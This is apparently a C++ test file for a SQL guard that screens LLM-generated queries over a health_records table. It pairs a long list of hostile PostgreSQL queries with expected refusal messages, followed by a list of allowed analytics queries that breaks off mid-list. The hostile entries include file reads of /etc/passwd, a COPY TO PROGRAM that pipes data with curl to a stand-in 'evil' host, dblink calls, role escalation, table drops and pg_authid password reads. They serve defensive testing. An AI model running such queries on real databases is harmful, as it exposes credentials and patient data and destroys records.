// SqlGuard: hostile queries must be refused with the construct named; legitimate analytics
// SQL (what an LLM writes against health_records) must pass, with what it touches reported.
#include "db/sql_guard.h"
#include "db/sql_guard_tree.h"

#include <gtest/gtest.h>

#include <atomic>
#include <iomanip>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

namespace larder::db {
namespace {

GuardPolicy test_policy() {
  GuardPolicy p;
  p.allowed_relations = {"public.health_records", "public.hospitals"};
  return p;
}

const SqlGuard& guard() {
  static const SqlGuard g(test_policy());
  return g;
}

struct Hostile {
  std::string sql;
  std::string expected;  // substring of the error message naming the construct
};

// clang-format off
const std::vector<Hostile>& hostile_queries() {
  static const std::vector<Hostile> q = {
    // --- session state and configuration
    {R"sql(SELECT set_config('role', 'postgres', false))sql", "function set_config is not allowed"},
    {R"sql(SELECT set_config('app.tenant', '42', true))sql", "function set_config is not allowed"},
    {R"sql(SELECT current_setting('is_superuser'))sql", "function current_setting is not allowed"},
    {R"sql(SELECT format('%s', current_setting('data_directory')))sql", "function current_setting is not allowed"},
    {R"sql(SET ROLE postgres)sql", "statement type VariableSetStmt is not allowed: only one SELECT"},
    {R"sql(SET search_path = evil, public)sql", "statement type VariableSetStmt is not allowed"},
    {R"sql(SET LOCAL app.tenant = '1')sql", "statement type VariableSetStmt is not allowed"},
    {R"sql(RESET ALL)sql", "statement type VariableSetStmt is not allowed"},
    {R"sql(RESET ROLE)sql", "statement type VariableSetStmt is not allowed"},
    {R"sql(SHOW ALL)sql", "statement type VariableShowStmt is not allowed"},
    {R"sql(ALTER SYSTEM SET log_statement = 'none')sql", "statement type AlterSystemStmt is not allowed"},
    {R"sql(DISCARD ALL)sql", "statement type DiscardStmt is not allowed"},
    {R"sql(LOAD 'plpgsql')sql", "statement type LoadStmt is not allowed"},
    // --- sleeping, files, large objects, other servers, backends
    {R"sql(SELECT pg_sleep(10))sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT pg_sleep_for('5 minutes'))sql", "function pg_sleep_for is not allowed"},
    {R"sql(SELECT pg_sleep_until(now() + interval '1 hour'))sql", "function pg_sleep_until is not allowed"},
    {R"sql(SELECT pg_read_file('/etc/passwd'))sql", "function pg_read_file is not allowed"},
    {R"sql(SELECT pg_read_binary_file('/etc/shadow'))sql", "function pg_read_binary_file is not allowed"},
    {R"sql(SELECT pg_ls_dir('.'))sql", "function pg_ls_dir is not allowed"},
    {R"sql(SELECT pg_stat_file('postgresql.conf'))sql", "function pg_stat_file is not allowed"},
    {R"sql(SELECT lo_import('/etc/passwd'))sql", "function lo_import is not allowed"},
    {R"sql(SELECT lo_export(16384, '/tmp/x'))sql", "function lo_export is not allowed"},
    {R"sql(SELECT lo_get(16384))sql", "function lo_get is not allowed"},
    {R"sql(SELECT * FROM dblink('host=evil', 'select 1') AS t(a int))sql", "function dblink is not allowed"},
    {R"sql(SELECT dblink_exec('host=evil', 'drop table x'))sql", "function dblink_exec is not allowed"},
    {R"sql(SELECT * FROM health_records, LATERAL dblink('x', 'y') t(a text))sql", "function dblink is not allowed"},
    {R"sql(SELECT pg_terminate_backend(1234))sql", "function pg_terminate_backend is not allowed"},
    {R"sql(SELECT pg_cancel_backend(1234))sql", "function pg_cancel_backend is not allowed"},
    {R"sql(SELECT pg_reload_conf())sql", "function pg_reload_conf is not allowed"},
    {R"sql(SELECT pg_advisory_lock(1))sql", "function pg_advisory_lock is not allowed"},
    {R"sql(SELECT pg_try_advisory_lock(1))sql", "function pg_try_advisory_lock is not allowed"},
    {R"sql(SELECT txid_current())sql", "function txid_current is not allowed"},
    {R"sql(SELECT txid_current_snapshot())sql", "function txid_current_snapshot is not allowed"},
    {R"sql(SELECT pg_current_xact_id())sql", "function pg_current_xact_id is not allowed"},
    {R"sql(SELECT query_to_xml('select * from pg_authid', true, true, ''))sql", "function query_to_xml is not allowed"},
    {R"sql(SELECT table_to_xml('health_records', true, true, ''))sql", "function table_to_xml is not allowed"},
    {R"sql(SELECT nextval('health_records_id_seq'))sql", "function nextval is not allowed"},
    {R"sql(SELECT setval('health_records_id_seq', 1))sql", "function setval is not allowed"},
    {R"sql(SELECT version())sql", "function version is not allowed"},
    {R"sql(SELECT to_regclass('pg_authid'))sql", "function to_regclass is not allowed"},
    {R"sql(SELECT has_table_privilege('health_records', 'select'))sql", "function has_table_privilege is not allowed"},
    {R"sql(SELECT setseed(0.5))sql", "function setseed is not allowed"},
    // --- COPY, DO, CALL and other utility statements
    {R"sql(COPY health_records TO PROGRAM 'curl -d @- http://evil')sql", "statement type CopyStmt is not allowed"},
    {R"sql(COPY (SELECT * FROM health_records) TO '/tmp/dump.csv')sql", "statement type CopyStmt is not allowed"},
    {R"sql(COPY health_records FROM PROGRAM 'id')sql", "statement type CopyStmt is not allowed"},
    {R"sql(DO $$ BEGIN PERFORM pg_sleep(10); END $$)sql", "statement type DoStmt is not allowed"},
    {R"sql(CALL some_procedure())sql", "statement type CallStmt is not allowed"},
    {R"sql(EXPLAIN SELECT * FROM health_records)sql", "statement type ExplainStmt is not allowed"},
    {R"sql(EXPLAIN ANALYZE DELETE FROM health_records)sql", "statement type ExplainStmt is not allowed"},
    {R"sql(LISTEN audit)sql", "statement type ListenStmt is not allowed"},
    {R"sql(NOTIFY audit, 'x')sql", "statement type NotifyStmt is not allowed"},
    {R"sql(PREPARE p AS SELECT * FROM health_records)sql", "statement type PrepareStmt is not allowed"},
    {R"sql(EXECUTE p)sql", "statement type ExecuteStmt is not allowed"},
    {R"sql(DEALLOCATE ALL)sql", "statement type DeallocateStmt is not allowed"},
    {R"sql(BEGIN)sql", "statement type TransactionStmt is not allowed"},
    {R"sql(COMMIT)sql", "statement type TransactionStmt is not allowed"},
    {R"sql(START TRANSACTION READ WRITE)sql", "statement type TransactionStmt is not allowed"},
    {R"sql(DECLARE c CURSOR FOR SELECT * FROM health_records)sql", "statement type DeclareCursorStmt is not allowed"},
    {R"sql(VACUUM health_records)sql", "statement type VacuumStmt is not allowed"},
    {R"sql(LOCK TABLE health_records IN ACCESS EXCLUSIVE MODE)sql", "statement type LockStmt is not allowed"},
    {R"sql(CHECKPOINT)sql", "statement type CheckPointStmt is not allowed"},
    // --- data modification and DDL
    {R"sql(UPDATE health_records SET "Billing Amount" = 0)sql", "statement type UpdateStmt is not allowed: only one SELECT"},
    {R"sql(DELETE FROM health_records WHERE true)sql", "statement type DeleteStmt is not allowed"},
    {R"sql(INSERT INTO health_records (id) VALUES (1))sql", "statement type InsertStmt is not allowed"},
    {R"sql(MERGE INTO health_records h USING health_records s ON h.id = s.id WHEN MATCHED THEN DELETE)sql", "statement type MergeStmt is not allowed"},
    {R"sql(TRUNCATE health_records)sql", "statement type TruncateStmt is not allowed"},
    {R"sql(DROP TABLE health_records)sql", "statement type DropStmt is not allowed"},
    {R"sql(ALTER TABLE health_records DISABLE ROW LEVEL SECURITY)sql", "statement type AlterTableStmt is not allowed"},
    {R"sql(GRANT ALL ON health_records TO PUBLIC)sql", "statement type GrantStmt is not allowed"},
    {R"sql(REVOKE SELECT ON health_records FROM larder_query)sql", "statement type GrantStmt is not allowed"},
    {R"sql(CREATE TABLE stolen (x text))sql", "statement type CreateStmt is not allowed"},
    {R"sql(CREATE TABLE stolen AS SELECT * FROM health_records)sql", "statement type CreateTableAsStmt is not allowed"},
    {R"sql(CREATE TEMP TABLE health_records AS SELECT 1)sql", "statement type CreateTableAsStmt is not allowed"},
    {R"sql(CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1')sql", "statement type CreateFunctionStmt is not allowed"},
    {R"sql(CREATE POLICY p ON health_records USING (true))sql", "statement type CreatePolicyStmt is not allowed"},
    {R"sql(ALTER ROLE larder_query SUPERUSER)sql", "statement type AlterRoleStmt is not allowed"},
    // --- data-modifying CTEs, SELECT INTO, locking
    {R"sql(WITH d AS (DELETE FROM health_records RETURNING *) SELECT * FROM d)sql", "data-modifying WITH is not allowed"},
    {R"sql(WITH u AS (UPDATE health_records SET "Age" = 0 RETURNING id) SELECT count(*) FROM u)sql", "data-modifying WITH is not allowed"},
    {R"sql(WITH i AS (INSERT INTO health_records (id) VALUES (1) RETURNING id) SELECT * FROM i)sql", "data-modifying WITH is not allowed"},
    {R"sql(SELECT * FROM (WITH d AS (DELETE FROM health_records RETURNING id) SELECT * FROM d) s)sql", "data-modifying WITH is not allowed"},
    {R"sql(WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r), m AS (UPDATE health_records SET "Age" = 1 RETURNING 1) SELECT * FROM r)sql", "data-modifying WITH is not allowed"},
    {R"sql(SELECT * INTO stolen FROM health_records)sql", "SELECT INTO is not allowed"},
    {R"sql(SELECT * INTO TEMP stolen FROM health_records)sql", "SELECT INTO is not allowed"},
    {R"sql(SELECT * FROM health_records FOR UPDATE)sql", "FOR UPDATE locking clause is not allowed"},
    {R"sql(SELECT * FROM health_records FOR SHARE)sql", "FOR SHARE locking clause is not allowed"},
    {R"sql(SELECT * FROM health_records FOR NO KEY UPDATE)sql", "FOR NO KEY UPDATE locking clause is not allowed"},
    {R"sql(SELECT * FROM health_records FOR KEY SHARE)sql", "FOR KEY SHARE locking clause is not allowed"},
    {R"sql(SELECT * FROM health_records h WHERE h."Age" > 0 FOR UPDATE OF h SKIP LOCKED)sql", "FOR UPDATE locking clause is not allowed"},
    {R"sql(SELECT * FROM (SELECT * FROM health_records FOR UPDATE) s)sql", "FOR UPDATE locking clause is not allowed"},
    // --- statement count
    {R"sql(SELECT 1; SELECT 2)sql", "2 statements found: only one is allowed"},
    {R"sql(SELECT * FROM health_records; DROP TABLE health_records)sql", "2 statements found: only one is allowed"},
    {R"sql(SELECT 1; SELECT 2; SELECT 3)sql", "3 statements found: only one is allowed"},
    {"", "no statement found"},
    {"  ; ; -- nothing here\n", "no statement found"},
    // --- comments, dollar quoting and escapes hiding things
    {"SELECT 1 /* ; harmless */ ; DELETE FROM health_records", "2 statements found"},
    {"SELECT 1 -- just a comment\n; DELETE FROM health_records", "2 statements found"},
    {R"sql(SELECT $$ a string; $$; SELECT pg_sleep(1))sql", "2 statements found"},
    {R"sql(SELECT /* nested /* comment */ still a comment */ pg_sleep(1))sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT $tag$x$tag$ || pg_read_file('/etc/passwd'))sql", "function pg_read_file is not allowed"},
    {R"sql(select/**/pg_sleep(1))sql", "function pg_sleep is not allowed"},
    {"SELECT pg_sleep\n\t(1)", "function pg_sleep is not allowed"},
    {R"sql(SELECT E'\x41', current_setting('data_directory'))sql", "function current_setting is not allowed"},
    {R"sql(SELECT U&"\0073et_config"('role', 'x', false))sql", "function set_config is not allowed"},
    {R"sql(SELECT U&"!0070g_sleep" UESCAPE '!' (1))sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT * FROM U&"\0070g_authid")sql", "relation pg_authid is not allowed"},
    // --- schema-qualified and quoted function tricks
    {R"sql(SELECT pg_catalog.set_config('role', 'x', false))sql", "function pg_catalog.set_config is not allowed"},
    {R"sql(SELECT "pg_catalog"."pg_sleep"(1))sql", "function pg_catalog.pg_sleep is not allowed"},
    {R"sql(SELECT "SET_CONFIG"('role', 'x', false))sql", "function SET_CONFIG is not allowed"},
    {R"sql(SELECT "set_config"('role', 'x', false))sql", "function set_config is not allowed"},
    {R"sql(SELECT SET_CONFIG('role', 'x', false))sql", "function set_config is not allowed"},
    {R"sql(SELECT public.set_config('a', 'b', false))sql", "function public.set_config is not allowed"},
    {R"sql(SELECT evil.lower('x'))sql", "function evil.lower is not allowed"},
    {R"sql(SELECT mydb.pg_catalog.lower('x'))sql", "function mydb.pg_catalog.lower is not allowed"},
    {R"sql(SELECT 1 OPERATOR(evil.+) 2)sql", "operator evil.+ is not allowed"},
    {R"sql(SELECT * FROM health_records h WHERE h.pg_sleep IS NULL)sql", "column reference h.pg_sleep is not allowed"},
    // --- dangerous functions hidden in every clause
    {R"sql(SELECT * FROM health_records WHERE id IN (SELECT pg_sleep(1)::int))sql", "function pg_sleep is not allowed"},
    {R"sql(WITH x AS (SELECT set_config('role', 'a', false)) SELECT * FROM x)sql", "function set_config is not allowed"},
    {R"sql(SELECT * FROM health_records h, LATERAL (SELECT pg_read_file('/etc/passwd')) f)sql", "function pg_read_file is not allowed"},
    {R"sql(SELECT sum("Billing Amount") OVER (ORDER BY pg_backend_pid()) FROM health_records)sql", "function pg_backend_pid is not allowed"},
    {R"sql(SELECT * FROM health_records ORDER BY pg_sleep(1)::text)sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT "Gender" FROM health_records GROUP BY 1 HAVING count(*) > 0 OR pg_sleep(1) IS NULL)sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT CASE WHEN "Age" > 50 THEN pg_sleep(1)::text ELSE 'x' END FROM health_records)sql", "function pg_sleep is not allowed"},
    {R"sql(VALUES (pg_sleep(1)))sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT * FROM (VALUES (1)) v(a) WHERE EXISTS (SELECT txid_current()))sql", "function txid_current is not allowed"},
    {R"sql(SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM health_records)sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_backend_pid()) FROM health_records)sql", "function pg_backend_pid is not allowed"},
    {R"sql(SELECT * FROM health_records LIMIT (SELECT pg_sleep(1)::int))sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT coalesce(NULL, pg_read_file('x')))sql", "function pg_read_file is not allowed"},
    {R"sql(SELECT lower('x') COLLATE "C", set_config('a', 'b', true))sql", "function set_config is not allowed"},
    {R"sql(SELECT 1 FROM health_records WHERE "Age" = ANY (SELECT pg_backend_pid()))sql", "function pg_backend_pid is not allowed"},
    {R"sql(SELECT * FROM generate_series(1, 3), pg_ls_dir('.') d)sql", "function pg_ls_dir is not allowed"},
    {R"sql(SELECT ARRAY[1, pg_sleep(1)::int])sql", "function pg_sleep is not allowed"},
    {R"sql(SELECT * FROM health_records GROUP BY ROLLUP (pg_backend_pid()))sql", "function pg_backend_pid is not allowed"},
    // --- catalogs, information_schema, other relations
    {R"sql(SELECT * FROM pg_authid)sql", "relation pg_authid is not allowed"},
    {R"sql(SELECT rolname, rolpassword FROM pg_catalog.pg_authid)sql", "relation pg_catalog.pg_authid is not allowed"},
    {R"sql(SELECT * FROM pg_shadow)sql", "relation pg_shadow is not allowed"},
    {R"sql(SELECT name, setting FROM pg_settings)sql", "relation pg_settings is not allowed"},
    {R"sql(SELECT * FROM information_schema.tables)sql", "relation information_schema.tables is not allowed"},
    {R"sql(SELECT column_name FROM information_schema.columns WHERE table_name = 'health_records')sql", "relation information_schema.columns is not allowed"},
    {R"sql(SELECT * FROM pg_roles)sql", "relation pg_roles is not allowed"},
    {R"sql(SELECT query FROM pg_stat_activity)sql", "relation pg_stat_activity is not allowed"},
    {R"sql(SELECT * FROM pg_class)sql", "relation pg_class is not allowed"},
    {R"sql(SELECT prosrc FROM pg_proc)sql", "relation pg_proc is not allowed"},
    {R"sql(SELECT * FROM pg_largeobject)sql", "relation pg_largeobject is not allowed"},
    {R"sql(SELECT * FROM pg_policies)sql", "relation pg_policies is not allowed"},
    {R"sql(TABLE pg_authid)sql", "relation pg_authid is not allowed"},
    {R"sql(SELECT * FROM health_records WHERE "Age" > (SELECT count(*) FROM pg_stat_activity))sql", "relation pg_stat_activity is not allowed"},
    {R"sql(SELECT (SELECT string_agg(rolname, ',') FROM pg_roles))sql", "relation pg_roles is not allowed"},
    {R"sql(SELECT row_to_json(a) FROM pg_authid a)sql", "relation pg_authid is not allowed"},
    {R"sql(SELECT id FROM health_records UNION SELECT oid FROM pg_authid)sql", "relation pg_authid is not allowed"},
    {R"sql(SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_authid))sql", "relation pg_authid is not allowed"},
    {R"sql(SELECT 1 FROM health_records JOIN pg_authid ON true)sql", "relation pg_authid is not allowed"},
    {R"sql(SELECT ARRAY(SELECT rolpassword::text FROM pg_authid))sql", "relation pg_authid is not allowed"},
    {R"sql(SELECT * FROM other_table)sql", "relation other_table is not allowed"},
    {R"sql(SELECT * FROM secret.health_records)sql", "relation secret.health_records is not allowed"},
    {R"sql(SELECT * FROM "Health_Records")sql", "relation Health_Records is not allowed"},
    {R"sql(SELECT * FROM mydb.public.health_records)sql", "database-qualified names are refused"},
    {R"sql(WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid)sql", "relation pg_authid is not allowed"},
    {R"sql(WITH x AS (SELECT * FROM x) SELECT * FROM x)sql", "relation x is not allowed"},
    {R"sql(WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a)sql", "relation b is not allowed"},
    {R"sql(SELECT * FROM pg_temp.health_records)sql", "relation pg_temp.health_records is not allowed"},
    // --- catalog-leaking casts and types
    {R"sql(SELECT 'health_records'::regclass)sql", "type cast to regclass is not allowed"},
    {R"sql(SELECT 'pg_sleep'::regproc)sql", "type cast to regproc is not allowed"},
    {R"sql(SELECT 'public'::regnamespace)sql", "type cast to regnamespace is not allowed"},
    {R"sql(SELECT 'postgres'::regrole)sql", "type cast to regrole is not allowed"},
    {R"sql(SELECT CAST('pg_authid' AS regclass))sql", "type cast to regclass is not allowed"},
    {R"sql(SELECT 'x'::pg_catalog.regclass)sql", "type cast to pg_catalog.regclass is not allowed"},
    {R"sql(SELECT regclass 'pg_authid')sql", "type cast to regclass is not allowed"},
    {R"sql(SELECT 'x'::text::regclass::oid)sql", "type cast to regclass is not allowed"},
    {R"sql(SELECT 1::oid)sql", "type cast to oid is not allowed"},
    {R"sql(SELECT '<a/>'::xml)sql", "type cast to xml is not allowed"},
    {R"sql(SELECT * FROM health_records AS h(a, b) WHERE a::regtype IS NOT NULL)sql", "type cast to regtype is not allowed"},
    {R"sql(SELECT * FROM json_populate_record(NULL::pg_authid, '{}'))sql", "function json_populate_record is not allowed"},
    {R"sql(SELECT * FROM jsonb_populate_record(NULL::text, '{}'))sql", "function jsonb_populate_record is not allowed"},
    {R"sql(SELECT 1::pg_authid)sql", "type cast to pg_authid is not allowed"},
    {R"sql(SELECT * FROM jsonb_to_record('{"a":"pg_authid"}') AS x(a regclass))sql", "column type regclass is not allowed"},
    {R"sql(SELECT x::evil.mytype FROM health_records)sql", "type cast to evil.mytype is not allowed"},
    // --- other refused constructs
    {R"sql(SELECT ctid, * FROM health_records)sql", "system column ctid is not allowed"},
    {R"sql(SELECT xmin, xmax FROM health_records)sql", "system column xmin is not allowed"},
    {R"sql(SELECT h.tableoid FROM health_records h)sql", "system column tableoid is not allowed"},
    {R"sql(SELECT (h).xmin FROM health_records h)sql", "system column xmin is not allowed"},
    {R"sql(SELECT * FROM ROWS FROM (generate_series(1, 3)) g)sql", "ROWS FROM is not allowed"},
    {R"sql(SELECT current_user)sql", "CURRENT_USER is not allowed"},
    {R"sql(SELECT session_user)sql", "SESSION_USER is not allowed"},
    {R"sql(SELECT current_schema)sql", "CURRENT_SCHEMA is not allowed"},
    {R"sql(SELECT * FROM health_records WHERE "Doctor" = (SELECT current_role))sql", "CURRENT_ROLE is not allowed"},
    {R"sql(SELECT * FROM health_records TABLESAMPLE tsm_system_rows(10))sql", "TABLESAMPLE method tsm_system_rows is not allowed"},
    {R"sql(SELECT xmlparse(document '<a/>'))sql", "construct XmlExpr is not allowed"},
    {R"sql(SELECT xmlserialize(content '<a/>' AS text))sql", "construct XmlSerialize is not allowed"},
    {R"sql(SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS x int))sql", "construct RangeTableFunc is not allowed"},
    {R"sql(SELECT $0)sql", "parameter $0 is out of range"},
    {R"sql(SELECT $65536)sql", "parameter $65536 is out of range"},
    {R"sql(SELECT id FROM health_records UNION SELECT id FROM health_records FOR UPDATE)sql", "FOR UPDATE locking clause is not allowed"},
    {R"sql(SELECT id INTO stolen FROM health_records UNION SELECT 1)sql", "SELECT INTO is not allowed"},
    {R"sql(SELECT * FROM health_records h WHERE h."Age" > 0 AND h.ctid > '(0,1)')sql", "system column ctid is not allowed"},
    {R"sql(SELECT * FROM health_records TABLESAMPLE evil.bernoulli (1))sql", "TABLESAMPLE method evil.bernoulli is not allowed"},
    {R"sql(SELECT * FROM health_records ORDER BY "Age" USING OPERATOR(evil.<))sql", "operator evil.< is not allowed"},
    {R"sql(SELECT 1 WHERE 1 = ANY (SELECT 1) AND 2 OPERATOR(evil.=) ANY (SELECT 2))sql", "operator evil.= is not allowed"},
    {R"sql(SELECT * FROM health_records h WHERE (h).pg_typeof IS NOT NULL)sql", "is a denied function name"},
    {R"sql(SELECT h.dblink_exec FROM health_records h)sql", "column reference h.dblink_exec is not allowed"},
    // --- syntax errors carry a position
    {R"sql(SELEC 1)sql", "SQL syntax error: syntax error at or near \"SELEC\" at position 1"},
    {R"sql(SELECT * FROM)sql", "at position 14"},
    {R"sql(SELECT 'unterminated)sql", "unterminated quoted string"},
    {"SELECT 1,\n  2,\n  FROM health_records", "(line 3, column 3)"},
  };
  return q;
}

const std::vector<std::string>& legitimate_queries() {
  static const std::vector<std::string> q = {
    R"sql(SELECT * FROM health_records LIMIT 10)sql",
    R"sql(SELECT count(*) FROM health_records)sql",
    R"sql(SELECT 1)sql",
    R"sql(SELECT now())sql",
    R"sql(SELECT current_date, current_timestamp, localtimestamp, current_time)sql",
    R"sql(SELECT * FROM public.health_records)sql",
    R"sql(TABLE health_records)sql",
    R"sql(VALUES (1, 'a'), (2, 'b'))sql",
    R"sql(SELECT h.* FROM health_records h)sql",
    R"sql(SELECT health_records."Age" FROM health_records)sql",
    R"sql(SELECT public.health_records."Age" FROM public.health_records)sql",
    R"sql(SELECT "Gender", count(*) FROM health_records GROUP BY "Gender")sql",
    R"sql(SELECT "Medical Condition", avg("Billing Amount") AS avg_bill FROM health_records GROUP BY "Medical Condition" ORDER BY avg_bill DESC)sql",
    R"sql(SELECT "Blood Type", count(*) AS n FROM health_records GROUP BY 1 ORDER BY 2 DESC)sql",
    R"sql(SELECT date_trunc('month', "Date of Admission") AS month, count(*) AS admissions FROM health_records GROUP BY 1 ORDER BY 1)sql",
    R"sql(SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY "Billing Amount") AS median_bill FROM health_records)sql",
    R"sql(SELECT "Hospital", percentile_disc(0.9) WITHIN GROUP (ORDER BY "Billing Amount") AS p90 FROM health_records GROUP BY "Hospital")sql",
    R"sql(WITH stays AS (SELECT id, "Discharge Date" - "Date of Admission" AS los FROM health_records) SELECT avg(los) AS avg_length_of_stay FROM stays)sql",
    R"sql(SELECT "Doctor", count(*) AS patients, rank() OVER (ORDER BY count(*) DESC) AS rnk FROM health_records GROUP BY "Doctor")sql",
    R"sql(SELECT * FROM (SELECT "Hospital", sum("Billing Amount") AS total, row_number() OVER (ORDER BY sum("Billing Amount") DESC) AS rn FROM health_records GROUP BY "Hospital") t WHERE rn <= 10)sql",
    R"sql(SELECT "Gender", "Admission Type", count(*) FROM health_records GROUP BY ROLLUP ("Gender", "Admission Type"))sql",
    R"sql(SELECT "Gender", "Blood Type", avg("Age") FROM health_records GROUP BY CUBE ("Gender", "Blood Type"))sql",
    R"sql(SELECT "Gender", "Blood Type", count(*) FROM health_records GROUP BY GROUPING SETS (("Gender"), ("Blood Type"), ()))sql",
    R"sql(SELECT "Gender", GROUPING("Gender") AS is_total, count(*) FROM health_records GROUP BY ROLLUP ("Gender"))sql",
    R"sql(SELECT CASE WHEN "Age" < 18 THEN 'child' WHEN "Age" < 65 THEN 'adult' ELSE 'senior' END AS age_group, count(*) FROM health_records GROUP BY 1 ORDER BY 2 DESC)sql",
    R"sql(SELECT * FROM health_records WHERE "Patient Name" ILIKE $1)sql",
    R"sql(SELECT * FROM health_records WHERE "Medical Condition" = $1 AND "Age" BETWEEN $2 AND $3)sql",
    R"sql(SELECT "Insurance Provider", round(avg("Billing Amount")::numeric, 2) AS avg_billing FROM health_records GROUP BY 1 ORDER BY 2 DESC)sql",
    R"sql(SELECT extract(year FROM "Date of Admission") AS yr, count(*) FROM health_records GROUP BY yr ORDER BY yr)sql",
    R"sql(SELECT EXTRACT(MONTH FROM "Date of Admission")::int AS month, count(*) FROM health_records GROUP BY 1)sql",
    R"sql(SELECT to_char("Date of Admission", 'YYYY-MM') AS ym, sum("Billing Amount") FROM health_records GROUP BY ym ORDER BY ym)sql",
    R"sql(SELECT "Medication", count(*) FILTER (WHERE "Test Results" = 'Abnormal') AS abnormal, count(*) AS total FROM health_records GROUP BY "Medication")sql",
    R"sql(SELECT id, "Billing Amount", avg("Billing Amount") OVER (PARTITION BY "Hospital") AS hospital_avg FROM health_records)sql",
    R"sql(SELECT id, sum("Billing Amount") OVER (ORDER BY "Date of Admission" ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS rolling FROM health_records)sql",
    R"sql(SELECT DISTINCT "Hospital" FROM health_records ORDER BY "Hospital")sql",
    R"sql(SELECT DISTINCT ON ("Doctor") "Doctor", "Date of Admission" FROM health_records ORDER BY "Doctor", "Date of Admission" DESC)sql",
    R"sql(SELECT "Admission Type", avg(EXTRACT(EPOCH FROM ("Discharge Date"::timestamp - "Date of Admission"::timestamp)) / 86400) AS avg_days FROM health_records GROUP BY 1)sql",
    R"sql(SELECT * FROM health_records WHERE "Date of Admission" >= current_date - interval '30 days')sql",
    R"sql(SELECT * FROM health_records WHERE "Date of Admission" >= now() - INTERVAL '1 year' ORDER BY "Date of Admission")sql",
    R"sql(SELECT age("Discharge Date", "Date of Admission") AS stay FROM health_records LIMIT 5)sql",
    R"sql(SELECT lower("Patient Name"), upper("Doctor"), initcap("Hospital") FROM health_records)sql",
    R"sql(SELECT split_part("Patient Name", ' ', 1) AS first_name, count(*) FROM health_records GROUP BY 1 ORDER BY 2 DESC LIMIT 20)sql",
    R"sql(SELECT left("Patient Name", 1) AS initial, right("Room Number"::text, 2) FROM health_records)sql",
    R"sql(SELECT "Patient Name", length("Patient Name") AS len, char_length("Doctor") FROM health_records)sql",
    R"sql(SELECT trim("Hospital"), replace("Hospital", 'and', '&'), btrim("Doctor", '. ') FROM health_records)sql",
    R"sql(SELECT concat("Doctor", ' @ ', "Hospital") AS who, concat_ws(', ', "Gender", "Blood Type") FROM health_records)sql",
    R"sql(SELECT "Doctor" || ' - ' || "Hospital" AS label FROM health_records)sql",
    R"sql(SELECT coalesce("Test Results", 'Unknown'), nullif("Medication", '') FROM health_records)sql",
    R"sql(SELECT greatest("Age", 18), least("Billing Amount", 10000) FROM health_records)sql",
    R"sql(SELECT json_agg(json_build_object('name', "Patient Name", 'age', "Age")) FROM health_records WHERE "Age" > 80)sql",
    R"sql(SELECT jsonb_agg(to_jsonb(h)) FROM (SELECT "Doctor", "Hospital" FROM health_records LIMIT 5) h)sql",
    R"sql(SELECT string_agg(DISTINCT "Medication", ', ' ORDER BY "Medication") FROM health_records)sql",
    R"sql(SELECT array_agg("Room Number" ORDER BY "Room Number") FROM health_records WHERE "Hospital" = $1)sql",
    R"sql(SELECT "Gender", stddev("Billing Amount"), variance("Billing Amount"), stddev_pop("Age") FROM health_records GROUP BY 1)sql",
    R"sql(SELECT min("Date of Admission"), max("Discharge Date") FROM health_records)sql",
    R"sql(SELECT ntile(4) OVER (ORDER BY "Billing Amount") AS quartile, "Billing Amount" FROM health_records)sql",
    R"sql(SELECT first_value("Patient Name") OVER w, last_value("Patient Name") OVER w FROM health_records WINDOW w AS (PARTITION BY "Hospital" ORDER BY "Billing Amount" ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING))sql",
    R"sql(SELECT "Medical Condition", "Patient Name", dense_rank() OVER (PARTITION BY "Medical Condition" ORDER BY "Billing Amount" DESC) AS r FROM health_records)sql",
    R"sql(SELECT "Patient Name", lead("Date of Admission") OVER (PARTITION BY "Patient Name" ORDER BY "Date of Admission") AS next_admission FROM health_records)sql",
    R"sql(WITH ordered AS (
  SELECT "Patient Name", "Date of Admission", "Discharge Date",
         lead("Date of Admission") OVER (PARTITION BY "Patient Name" ORDER BY "Date of Admission") AS next_admit
  FROM health_records
)
SELECT count(*) FILTER (WHERE next_admit - "Discharge Date" <= 30)::float / NULLIF(count(*), 0) AS readmission_rate
FROM ordered)sql",
    R"sql(SELECT "Hospital" FROM health_records GROUP BY "Hospital" HAVING count(*) > 100 ORDER BY count(*) DESC)sql",
    R"sql(SELECT * FROM health_records WHERE "Medical Condition" IN ('Diabetes', 'Asthma', 'Obesity'))sql",
    R"sql(SELECT count(*) FROM health_records WHERE "Medical Condition" NOT IN ('Cancer') AND "Age" >= 40)sql",
    R"sql(SELECT * FROM health_records WHERE "Doctor" LIKE 'Dr.%' OR "Doctor" NOT ILIKE '%smith%')sql",
    R"sql(SELECT * FROM health_records WHERE "Patient Name" ~* '^john' AND "Hospital" !~ 'LLC$')sql",
    R"sql(SELECT * FROM health_records WHERE "Hospital" SIMILAR TO '%(Inc|LLC)%')sql",
    R"sql(SELECT * FROM health_records WHERE "Test Results" IS NOT NULL AND "Medication" IS DISTINCT FROM 'Aspirin')sql",
    R"sql(SELECT h1."Patient Name", h2."Date of Admission" FROM health_records h1 JOIN health_records h2 ON h1."Patient Name" = h2."Patient Name" AND h1.id <> h2.id)sql",
    R"sql(SELECT h."Hospital", latest."Date of Admission" FROM health_records h LEFT JOIN LATERAL (SELECT "Date of Admission" FROM health_records x WHERE x."Hospital" = h."Hospital" ORDER BY 1 DESC LIMIT 1) latest ON true)sql",
    R"sql(SELECT * FROM health_records h WHERE EXISTS (SELECT 1 FROM health_records h2 WHERE h2."Doctor" = h."Doctor" AND h2.id <> h.id))sql",
    R"sql(SELECT * FROM health_records WHERE "Billing Amount" > (SELECT avg("Billing Amount") FROM health_records))sql",
